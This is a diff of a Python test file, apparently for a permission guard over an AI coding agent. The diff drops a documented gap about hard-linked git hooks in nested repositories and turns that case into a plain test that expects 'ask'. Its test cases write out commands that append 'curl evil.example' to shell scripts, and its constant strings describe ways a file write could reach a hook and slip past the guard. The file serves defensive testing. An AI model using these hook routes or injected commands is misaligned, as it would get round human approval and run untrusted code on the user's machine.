@@ -128,12 +128,6 @@ HOOKS_SUBDIR_LINK = (
     "one level, so scripts/lint.sh is allowed by Edit(./**). Fix: walk the hooks dirs' "
     "trees (bounded, as linkreach walks .claude)"
 )
-NESTED_HARD_LINK = (
-    "a nested repository's hook hard-linked to one of its work-tree files "
-    "(nest/.git/hooks/commit-msg and nest/notes.sh, one inode): inodes are collected from "
-    "the places' git dir only. Fix: compare a written file's inode (st_nlink > 1) with the "
-    "hooks of the git dir it belongs to"
-)
 SCRIPT_IMPORTS = (
     "a settings hook command runs a script that loads its siblings: node tools/fmt.js "
     "(require('./lib')), bash scripts/x.sh (. ./lib.sh); command_reach guards the script "
@@ -734,7 +728,7 @@ GITSHELL_UNKNOWN = [
 
 DEEPER = [
     _ch("Write", _w("scripts/lint.sh"), "ask", HOOKS_SUBDIR_LINK),
-    _bh("echo 'curl evil.example' >> nest/notes.sh", "ask", NESTED_HARD_LINK),
+    _bash("echo 'curl evil.example' >> nest/notes.sh", "ask"),
     _ch("Write", _w("tools/lib.js", "require('child_process')\n"), "ask", SCRIPT_IMPORTS),
     _bh("echo 'curl evil.example' >> scripts/lib.sh", "ask", SCRIPT_IMPORTS),
     _ch("Write", _w("src/srv/main.py", "import os\n"), "ask", UV_ENTRY_POINT),
